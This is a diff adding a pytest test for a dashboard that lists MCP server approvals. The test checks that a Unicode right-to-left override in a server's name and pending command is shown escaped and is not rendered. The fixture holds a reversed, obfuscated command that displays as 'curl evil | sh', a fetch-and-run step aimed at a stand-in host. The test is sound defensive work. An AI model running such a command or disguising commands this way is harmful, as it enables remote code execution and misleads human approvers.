@@ -277,3 +277,25 @@ async def _approve_form_refusals(world: World) -> None:
     await log_in(world, "alice")  # not bob's workspace: she cannot even see it
     other = csrf_of(await world.client.get("/"))
     assert (await world.client.post(approve, data={**form, "csrf": other}, headers=ORIGIN)).status_code == 404
+
+
+@pytest.mark.anyio
+async def test_the_dashboard_shows_a_bidi_override_in_what_a_server_would_run_instead_of_obeying_it(
+    tmp_path: Path,
+) -> None:
+    # The agent reports it so already (mcp_secrets.shown); the page holds even against an agent that does not.
+    hostile = "run '\u202ehs | live lruc'"
+    approval = McpApproval("pending", "/home/dev/project/.mcp.json", "ab" * 32, hostile)
+    server = Resource(Kind.MCP_SERVER, "ev\u202eil", Scope.PROJECT, Status.DISABLED, error="x", approval=approval)
+    async with dashboard_world(tmp_path) as world:
+        pushed = await world.push(push_body([server], agent=AGENT_INFO), token="bobs_agent")
+        assert pushed.status_code == 200, pushed.text
+        box = next(w for w in (await world.call("GET", "/api/v1/workspaces", "bob")).json() if w["name"] == "bobs-box")
+        await log_in(world, "bob")
+        page = (await world.client.get(f"/ui/agents/{box['agents'][0]['id']}/mcp")).text
+    assert "run &#39;\\u202ehs | live lruc&#39;" in page and "<h2>ev\\u202eil " in page
+    section = page[page.index('<section class="server"') : page.index("</section>")]
+    attributes = ('data-server="ev\u202eil"', 'value="ev\u202eil"')  # not shown; the form approves the real name
+    for attribute in attributes:
+        section = section.replace(attribute, "")
+    assert "\u202e" not in section
